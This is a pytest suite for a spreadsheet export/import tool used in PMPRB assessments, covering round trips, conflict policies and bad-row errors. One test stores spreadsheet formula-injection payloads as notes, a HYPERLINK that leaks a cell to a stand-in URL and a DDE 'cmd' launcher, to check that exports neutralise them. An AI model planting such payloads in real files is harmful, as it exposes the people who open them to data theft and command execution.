"""Export -> import round trips, edits in a spreadsheet, conflict policies, bad rows."""

from __future__ import annotations

import csv

import openpyxl
import pytest

from pmprb.presentation import sheet_export
from pmprb.assessments.assess import sheet_import
from pmprb.presentation import sheet_format
from pmprb.assessments.setup import people, round_work
from pmprb.errors import ConflictError, ForbiddenError, NotFoundError, ValidationError


def export(world, path, fmt, username="ani"):
    with world.db.session() as s:
        return sheet_export.export_worksheet(s, world.rnd(s), world.unit(s), people.get_person(s, username), path,
                                              fmt)


def do_import(world, path, policy="stop", username="ani", unit="DINKES", clear_empty=False):
    with world.db.session() as s:
        sheet = sheet_format.read_sheet(path, round_work.instrument_for(world.rnd(s)))
    return world.in_round(lambda s, a, r, u: sheet_import.import_sheet(s, a, r, u, sheet, policy,
                                                                       clear_empty=clear_empty), username, unit)


@pytest.fixture
def filled(world, sk_file):
    """ani has answered a few criteria, with notes and evidence."""
    world.add_file(sk_file, ["MP.1.a", "MP.1.b"], number="800/1/2024")
    s = world.session()
    s.save("MP.1.a", "A", "SK Tim RB nomor 800/1/2024;\nditandatangani Wali Kota")
    s.save("MP.1.b", "B")
    s.save("MP.2.a", "Ya", "Road Map 2020-2024")
    s.save("SDM.1.a", "C")
    s.link("MP.2.a", "800/1/2024")
    return world


def xlsx_cells(path):
    wb = openpyxl.load_workbook(path)
    ws = wb["Kertas Kerja"]
    header = [c.value for c in ws[1]]
    return wb, ws, header


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_export_then_import_changes_nothing(filled, tmp_path, fmt):
    path = tmp_path / f"ani.{fmt}"
    n = export(filled, path, fmt)
    assert n == len(filled.session().ids)
    before, events = filled.answers(), filled.events()
    plan = do_import(filled, path)
    assert filled.answers() == before and filled.events() == events
    summary = plan.summary()
    assert (summary["created"], summary["updated"], summary["unchanged"], summary["links"]) == (0, 0, 4, 0)
    assert summary["rows"] == n


def test_xlsx_has_every_column_and_a_drop_down_per_answer_type(filled, tmp_path):
    path = tmp_path / "ani.xlsx"
    export(filled, path, "xlsx")
    wb, ws, header = xlsx_cells(path)
    assert header == ["kriteria", "area", "sub_area", "uraian", "pilihan", "jawaban", "catatan", "bukti_dukung",
                      "versi", "nilai", "peringatan"]
    rows = {r[0]: r for r in ws.iter_rows(min_row=2, values_only=True)}
    assert rows["MP.1.a"][1:3] == ("MP", "MP.1") and rows["MP.1.a"][3] == "Tim Reformasi Birokrasi telah dibentuk"
    assert rows["MP.1.a"][4].startswith("A = Telah membentuk Tim Reformasi Birokrasi")
    assert rows["MP.1.a"][5:10] == ("A", "SK Tim RB nomor 800/1/2024;\nditandatangani Wali Kota", "800/1/2024", 1, 1)
    assert rows["MP.2.a"][7] == "800/1/2024"
    lists = {dv.formula1: str(dv.sqref) for dv in ws.data_validations.dataValidation}
    s = filled.session()
    assert set(lists) == {'"' + ",".join(s.criterion(c).values) + '"' for c in s.ids}
    row_of = {r[0].value: r[0].row for r in ws.iter_rows(min_row=2)}
    assert f"F{row_of['MP.1.a']}" in lists['"A,B,C"'].split()
    assert f"F{row_of['MP.2.a']}" in lists['"Ya,Tidak"'].split()
    assert wb["Info"]["B3"].value == "DINKES"


def test_xlsx_edited_with_openpyxl_imports(filled, tmp_path, sk_file):
    path = tmp_path / "ani.xlsx"
    export(filled, path, "xlsx")
    wb, ws, header = xlsx_cells(path)
    col = {h: i + 1 for i, h in enumerate(header)}
    row_of = {r[0].value: r[0].row for r in ws.iter_rows(min_row=2)}
    ws.cell(row_of["MP.1.b"], col["jawaban"], "a")                       # edit an answered criterion
    ws.cell(row_of["MP.1.b"], col["catatan"], "Seluruh tugas selesai")
    ws.cell(row_of["MP.1.c"], col["jawaban"], "d")                       # answer a new one
    ws.cell(row_of["MP.2.b"], col["jawaban"], "B")
    ws.cell(row_of["MP.2.b"], col["bukti_dukung"], "800/1/2024")          # link stored evidence
    ws.cell(row_of["MP.1.a"], col["catatan"]).value = None               # clear a note (--clear-empty)
    wb.save(path)
    before = filled.events()
    plan = do_import(filled, path, clear_empty=True).summary()
    assert (plan["created"], plan["updated"], plan["unchanged"], plan["links"]) == (2, 2, 2, 1)
    got = filled.answers()
    assert got["MP.1.b"] == ("A", "Seluruh tugas selesai", 2)
    assert got["MP.1.c"] == ("D", None, 1)
    assert got["MP.1.a"] == ("A", None, 2)
    assert filled.events() == before + 1  # one act: answer.import with its 4 answers and 1 evidence link
    assert [d.ref for d in filled.session().evidence("MP.2.b")] == ["800/1/2024"]
    report = filled.verify()
    assert report.ok, [p.describe() for p in report.problems]


def test_a_formula_or_an_error_value_in_an_imported_cell_is_named_by_its_cell(filled, tmp_path):
    """Issue 15 item 5: a formula's cached value is not what the assessor typed."""
    path = tmp_path / "ani.xlsx"
    export(filled, path, "xlsx")
    wb, ws, header = xlsx_cells(path)
    col = {h: i + 1 for i, h in enumerate(header)}
    row_of = {r[0].value: r[0].row for r in ws.iter_rows(min_row=2)}
    answer = ws.cell(row_of["MP.1.b"], col["jawaban"])
    answer.value = "=1+1"
    note = ws.cell(row_of["MP.1.c"], col["catatan"])
    note.value, note.data_type = "#DIV/0!", "e"
    wb.save(path)
    before = filled.answers()
    with pytest.raises(ValidationError) as err:
        do_import(filled, path)
    text = str(err.value)
    assert f"'Kertas Kerja'!{answer.coordinate}: rumus '=1+1'" in text, text
    assert f"'Kertas Kerja'!{note.coordinate}" in text and "#DIV/0!" in text, text
    assert filled.answers() == before


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_notes_that_look_like_formulas_round_trip(filled, tmp_path, fmt):
    """Exports neutralise formula-like text; import restores it: nothing changes."""
    notes = {"MP.1.a": '=HYPERLINK("http://x?leak="&A2,"Klik")', "MP.1.b": "+cmd|' /C calc'!A0",
             "MP.2.a": "@SUM(1)", "SDM.1.a": "-2 dokumen\tkurang"}  # (an XLSX reads a CR back as LF)
    s = filled.session()
    for cid, note in notes.items():
        s.save(cid, filled.answers()[cid][0], note)
    before = filled.answers()
    path = tmp_path / f"ani.{fmt}"
    export(filled, path, fmt)
    if fmt == "csv":
        raw = path.read_text(encoding="utf-8-sig")
        assert "'=HYPERLINK" in raw and "'+cmd" in raw and "'@SUM" in raw and "'-2 dokumen" in raw
    else:
        wb, ws, header = xlsx_cells(path)
        assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)
    plan = do_import(filled, path).summary()
    assert plan["created"] == plan["updated"] == 0, plan
    assert filled.answers() == before


def test_csv_edited_and_semicolon_delimited(filled, tmp_path):
    path = tmp_path / "ani.csv"
    export(filled, path, "csv")
    text = path.read_text(encoding="utf-8-sig")
    rows = list(csv.reader(text.splitlines(keepends=True)))
    for r in rows[1:]:
        if r[0] == "SDM.1.c":
            r[5] = "tidak"
    out = tmp_path / "semicolon.csv"
    with out.open("w", encoding="utf-8", newline="") as f:
        csv.writer(f, delimiter=";").writerows(rows)
    plan = do_import(filled, out).summary()
    assert plan["created"] == 1 and filled.answers()["SDM.1.c"] == ("Tidak", None, 1)


def _sheet(rows, header=("criterion", "answer", "note", "evidence_refs", "version")):
    return [list(header)] + [list(r) for r in rows]


def write_csv(path, rows):
    with path.open("w", encoding="utf-8", newline="") as f:
        csv.writer(f).writerows(rows)
    return path


def test_a_note_over_the_limit_is_named_by_its_row(filled, tmp_path):
    from pmprb.engine import codes

    before = filled.answers()
    path = write_csv(tmp_path / "long.csv", _sheet([("MP.1.c", "B", "x" * (codes.MAX_TEXT + 1), "", "")]))
    with pytest.raises(ValidationError) as err:
        do_import(filled, path)
    assert f"catatan terlalu panjang ({codes.MAX_TEXT + 1} karakter, maks. {codes.MAX_TEXT})" in str(err.value)
    assert "2" in str(err.value)  # the row
    assert filled.answers() == before


def test_bad_rows_are_all_reported_and_nothing_is_written(filled, tmp_path):
    path = write_csv(tmp_path / "bad.csv", _sheet([
        ("MP.1.c", "B", "", "", ""),           # row 2: fine
        ("MP.9.z", "A", "", "", ""),           # row 3: unknown criterion
        ("MP.2.b", "Ya", "", "", ""),          # row 4: answer not allowed for A/B/C/D
        ("MP.2.c", "A", "", "SK-TIDAK-ADA", ""),  # row 5: evidence ref that does not exist
        ("MP.1.c", "C", "", "", ""),           # row 6: duplicate of row 2
        ("PPU.1.a", "Ya", "", "", ""),         # row 7: area not assigned
        ("MP.2.d", "A", "", "", "dua"),        # row 8: version not a number
    ]))
    before, events = filled.answers(), filled.events()
    with pytest.raises(ValidationError) as exc:
        do_import(filled, path)
    assert exc.value.details == [
        "baris 3: MP.9.z: kriteria tidak dikenal dalam instrumen pmprb-2014",
        "baris 4: MP.2.b: jawaban 'Ya' tidak diizinkan untuk MP.2.b; pilihan: A, B, C",
        "baris 5: MP.2.c: referensi bukti dukung 'SK-TIDAK-ADA' tidak ada pada unit DINKES",
        "baris 6: MP.1.c: baris ganda (kriteria ini sudah ada di baris 2)",
        "baris 7: PPU.1.a: area PPU tidak ditugaskan kepada ani pada unit ini",
        "baris 8: MP.2.d: versi harus bilangan bulat \u2265 1, bukan 'dua'",
    ]
    assert "6 baris bermasalah; tidak ada yang diimpor" in str(exc.value)
    assert filled.answers() == before and filled.events() == events
    for policy in ("skip", "update"):  # bad rows stop every policy
        with pytest.raises(ValidationError):
            do_import(filled, path, policy)
    assert filled.answers() == before


def test_bad_rows_in_english(filled, tmp_path):
    from pmprb import i18n

    i18n.set_lang("en")
    path = write_csv(tmp_path / "bad.csv", _sheet([("MP.1.a", "Z", "", "", "1")]))
    with pytest.raises(ValidationError) as exc:
        do_import(filled, path)
    assert exc.value.details == ["row 2: MP.1.a: answer 'Z' is not allowed for MP.1.a; allowed: A, B, C"]


def conflict_file(tmp_path):
    """A file made before ani's latest saves: version 1 of MP.1.a, nothing for MP.1.b."""
    return write_csv(tmp_path / "old.csv", _sheet([
        ("MP.1.a", "B", "", "", "1"),    # stored is version 2 now -> conflict
        ("MP.1.b", "C", "", "", ""),     # stored B, file carries no version -> conflict
        ("MP.1.c", "A", "", "", ""),     # new -> created
        ("MP.2.a", "Ya", "Road Map 2020-2024", "800/1/2024", "1"),  # same as stored -> unchanged
    ]))


@pytest.fixture
def moved_on(filled):
    filled.session().save("MP.1.a", "A", "diperbarui")  # version 2
    return filled


def test_conflicts_stop_imports_nothing(moved_on, tmp_path):
    path = conflict_file(tmp_path)
    before, events = moved_on.answers(), moved_on.events()
    with pytest.raises(ConflictError) as exc:
        do_import(moved_on, path, "stop")
    assert exc.value.exit_code == 4
    assert exc.value.details[0].startswith("baris 2: MP.1.a: jawaban berbeda: berkas 'B', tersimpan 'A' "
                                           "(tersimpan versi 2, oleh ani pada ")
    assert exc.value.details[0].endswith("; berkas berdasarkan versi 1")
    assert exc.value.details[1].endswith("; berkas tidak memuat versi")
    assert moved_on.answers() == before and moved_on.events() == events


def test_conflicts_skip_keeps_stored_answers(moved_on, tmp_path):
    plan = do_import(moved_on, conflict_file(tmp_path), "skip").summary()
    assert (plan["created"], plan["skipped"], plan["unchanged"], plan["overwritten"]) == (1, 2, 1, 0)
    got = moved_on.answers()
    assert got["MP.1.a"] == ("A", "diperbarui", 2) and got["MP.1.b"][0] == "B" and got["MP.1.c"] == ("A", None, 1)


def test_conflicts_update_overwrites(moved_on, tmp_path):
    plan = do_import(moved_on, conflict_file(tmp_path), "update").summary()
    assert (plan["created"], plan["overwritten"], plan["unchanged"]) == (1, 2, 1)
    got = moved_on.answers()
    # the file's empty note cells keep the stored notes (no --clear-empty)
    assert got["MP.1.a"] == ("B", "diperbarui", 3) and got["MP.1.b"] == ("C", None, 2)
    assert [c["criterion"] for c in plan["conflicts"]] == ["MP.1.a", "MP.1.b"]
    assert moved_on.verify().ok


def test_score_worksheet_yaml(filled, tmp_path):
    path = tmp_path / "ws.yaml"
    path.write_text("instrument: pmprb-2014\nanswers:\n  MP.1.c: b\n  MP.2.a: Ya\n  MP.2.b: a\n"
                    "evidence:\n  MP.2.b: 2\nhasil:\n  H.1.a: 70\n", encoding="utf-8")
    with filled.db.session() as s:
        sheet = sheet_format.read_sheet(path, round_work.instrument_for(filled.rnd(s)))
    assert sheet.format == "score" and len(sheet.notices) == 2
    assert [(r.row, r.criterion) for r in sheet.rows] == [(3, "MP.1.c"), (4, "MP.2.a"), (5, "MP.2.b")]
    plan = do_import(filled, path).summary()
    assert (plan["created"], plan["unchanged"]) == (2, 1)
    assert filled.answers()["MP.2.a"] == ("Ya", "Road Map 2020-2024", 1)  # a score worksheet keeps stored notes


def test_score_worksheet_errors_are_located(filled, tmp_path):
    path = tmp_path / "ws.yaml"
    path.write_text("instrument: pmprb-2014\nanswers:\n  MP.1.c: Q\n  XX.1: A\n", encoding="utf-8")
    with pytest.raises(ValidationError) as exc:
        do_import(filled, path)
    assert any(":3: answers.MP.1.c:" in d for d in exc.value.details)
    assert any(":4: answers.XX.1:" in d for d in exc.value.details)


def test_score_worksheet_for_all_areas_names_the_unassigned_rows(filled, tmp_path):
    path = tmp_path / "ws.json"
    path.write_text('{"instrument": "pmprb-2014", "answers": {"MP.1.c": "A", "PPU.1.a": "A"}}', encoding="utf-8")
    with pytest.raises(ValidationError) as exc:
        do_import(filled, path)
    assert exc.value.details == ["baris 1: PPU.1.a: area PPU tidak ditugaskan kepada ani pada unit ini"]


def test_score_csv(filled, tmp_path):
    path = write_csv(tmp_path / "score.csv", [["criterion", "answer", "evidence"], ["MP.1.c", "c", "0"]])
    plan = do_import(filled, path).summary()
    assert plan["created"] == 1 and plan["notices"]


def test_xlsx_of_another_unit_is_refused(filled, tmp_path):
    path = tmp_path / "ani.xlsx"
    export(filled, path, "xlsx")
    with pytest.raises(ValidationError, match="diekspor untuk unit 'DINKES', bukan 'BAPPEDA'"):
        do_import(filled, path, unit="BAPPEDA")


def test_another_assessors_file_versions_are_not_trusted(filled, tmp_path):
    """budi imports ani's export: ani's versions say nothing about budi's answers."""
    budi = filled.session("budi")
    budi.save("MP.1.a", "C")
    path = tmp_path / "ani.xlsx"
    export(filled, path, "xlsx")
    wb = openpyxl.load_workbook(path)
    ws = wb["Kertas Kerja"]
    for row in list(ws.iter_rows(min_row=2)):
        if row[1].value != "MP":
            ws.delete_rows(row[0].row)  # budi has MP only
    wb.save(path)
    with pytest.raises(ConflictError, match="MP.1.a"):
        do_import(filled, path, username="budi")


def test_clearing_an_answer_and_a_note_without_answer(filled, tmp_path):
    path = write_csv(tmp_path / "x.csv", _sheet([("MP.1.a", "", "", "", "1"), ("MP.1.c", "", "catatan", "", "")]))
    with pytest.raises(ValidationError) as exc:
        do_import(filled, path)
    assert exc.value.details == ["baris 2: MP.1.a: jawaban tersimpan 'A' tidak dapat dikosongkan lewat impor",
                                 "baris 3: MP.1.c: catatan tanpa jawaban"]


def test_file_problems(filled, tmp_path):
    with pytest.raises(NotFoundError):
        do_import(filled, tmp_path / "missing.xlsx")
    txt = tmp_path / "w.txt"
    txt.write_text("x")
    with pytest.raises(ValidationError, match="format tidak dikenal"):
        do_import(filled, txt)
    broken = tmp_path / "broken.xlsx"
    broken.write_bytes(b"not a zip")
    with pytest.raises(ValidationError, match="bukan berkas XLSX"):
        do_import(filled, broken)
    nohead = write_csv(tmp_path / "nohead.csv", [["foo", "bar"], ["MP.1.a", "A"]])
    with pytest.raises(ValidationError, match="kolom tidak dikenal 'foo'"):
        do_import(filled, nohead)


def test_only_assessors_import(filled, tmp_path):
    path = write_csv(tmp_path / "x.csv", _sheet([("MP.1.c", "A", "", "", "")]))
    with pytest.raises(ForbiddenError):
        do_import(filled, path, username="audi")


def test_a_failure_half_way_leaves_nothing_written(filled, tmp_path, monkeypatch):
    """The answers are written, then writing their audit events fails: the whole import rolls back."""
    from pmprb.assessments.assess import bulk_save

    path = write_csv(tmp_path / "x.csv", _sheet([(c, "A", "", "", "") for c in ("MP.1.c", "MP.2.b", "MP.2.c")]))
    seen = []

    def failing(session, *, round_id, actor, action, payload, when=None, rows=None):
        seen.extend(payload["created"])
        assert all(k for k in rows.tables["answer"])  # the rows are already written, with their ids
        raise RuntimeError("disk full")

    monkeypatch.setattr(bulk_save.audit_log, "append", failing)
    before, events = filled.answers(), filled.events()
    with pytest.raises(RuntimeError):
        do_import(filled, path)
    assert seen == ["MP.1.c", "MP.2.b", "MP.2.c"]
    assert filled.answers() == before and filled.events() == events


def test_bulk_writes_match_save_answer(filled, tmp_path):
    """The import's events are what save_answer would have written: audit verify agrees, and a later
    save_answer continues the chain and the versions."""
    path = write_csv(tmp_path / "x.csv", _sheet([("MP.1.a", "B", "ubah", "", "1"), ("MP.1.c", "A", "", "", "")]))
    do_import(filled, path)
    assert filled.verify().ok, filled.verify().problems
    filled.session().save("MP.1.a", "C")
    assert filled.answers()["MP.1.a"] == ("C", "ubah", 3)
    report = filled.verify()
    assert report.ok, report.problems


def test_citations_in_the_evidence_column_become_documents(filled, tmp_path):
    """Issue 16 item 4: an evidence cell may cite documents the store does not have yet; each citation
    becomes a document without a file, linked to its criterion, in the import's transaction. A
    mistyped reference is still a bad row."""
    cite = "Peraturan Wali Kota Nomor 12 Tahun 2016 tentang Road Map Reformasi Birokrasi Tahun 2016-2020"
    path = write_csv(tmp_path / "cited.csv", _sheet([
        ("MP.2.b", "A", "", f"800/1/2024; {cite}", ""),
        ("MP.2.c", "A", "", cite, ""),
    ]))
    plan = do_import(filled, path).summary()
    assert plan["created"] == 2 and plan["cited_documents"] == 1
    s = filled.session()
    (doc,) = [d for d in s.evidence("MP.2.c")]
    assert doc.title == cite and doc.key == cite and doc.original_name is None and doc.url is None
    assert [d.ref for d in s.evidence("MP.2.b")] == ["800/1/2024", cite]
    decisions = s.evaluate()
    assert list(decisions["MP.2.c"].result.flags) == ["evidence_outdated"]
    assert filled.verify().ok, filled.verify().problems
    # Exported and imported again, the citation is the document's key: nothing new.
    out = tmp_path / "again.csv"
    export(filled, out, "csv")
    again = do_import(filled, out).summary()
    assert again["cited_documents"] == 0 and again["links"] == 0
    bad = write_csv(tmp_path / "typo.csv", _sheet([("MP.2.d", "A", "", "sk-tim.pdf", "")]))
    with pytest.raises(ValidationError) as exc:
        do_import(filled, bad)
    assert exc.value.details == ["baris 2: MP.2.d: referensi bukti dukung 'sk-tim.pdf' tidak ada pada unit DINKES"]


def test_hand_made_csv_keeps_notes_and_names_the_field_that_differs(filled, tmp_path):
    """Issue 14: a CSV ``kriteria,jawaban,catatan`` with an empty note reported
    ``berkas 'A', tersimpan 'A'`` and deleted the stored note."""
    stored = filled.answers()
    assert stored["MP.1.a"][1]   # ani's MP.1.a has a note
    path = tmp_path / "tangan.csv"
    path.write_text(f"kriteria,jawaban,catatan\nMP.1.a,{stored['MP.1.a'][0]},\n", encoding="utf-8")
    plan = do_import(filled, path).summary()
    assert (plan["unchanged"], plan["conflicts"]) == (1, [])
    assert filled.answers() == stored
    # a different note is a conflict that says so (the answer is the same)
    path.write_text(f"kriteria,jawaban,catatan\nMP.1.a,{stored['MP.1.a'][0]},Catatan lain\n", encoding="utf-8")
    with pytest.raises(ConflictError) as exc:
        do_import(filled, path)
    detail = exc.value.details[0]
    assert "catatan berbeda: berkas 'Catatan lain', tersimpan 'SK Tim RB" in detail
    assert "jawaban berbeda" not in detail and "berkas 'A', tersimpan 'A'" not in detail
    # only --clear-empty lets an empty cell delete the note
    path.write_text(f"kriteria,jawaban,catatan\nMP.1.a,{stored['MP.1.a'][0]},\n", encoding="utf-8")
    with pytest.raises(ConflictError) as exc:
        do_import(filled, path, clear_empty=True)
    assert "catatan berbeda: berkas (kosong)" in exc.value.details[0]
    do_import(filled, path, "update", clear_empty=True)
    assert filled.answers()["MP.1.a"][1] is None


def test_clear_empty_option_on_the_command_line(filled, tmp_path):
    from click.testing import CliRunner

    from pmprb.cli import main

    stored = filled.answers()["MP.1.a"]
    path = tmp_path / "tangan.csv"
    path.write_text(f"kriteria,jawaban,catatan\nMP.1.a,{stored[0]},\n", encoding="utf-8")
    base = ["--db", filled.db.url, "--as", "ani", "assess", "import", str(path), "--round", "2024", "--unit", "DINKES"]
    r = CliRunner().invoke(main, base)
    assert r.exit_code == 0 and filled.answers()["MP.1.a"] == stored
    r = CliRunner().invoke(main, base + ["--clear-empty", "--on-conflict", "update"])
    assert r.exit_code == 0, r.stderr
    assert "catatan berbeda" in r.stderr and filled.answers()["MP.1.a"][1] is None
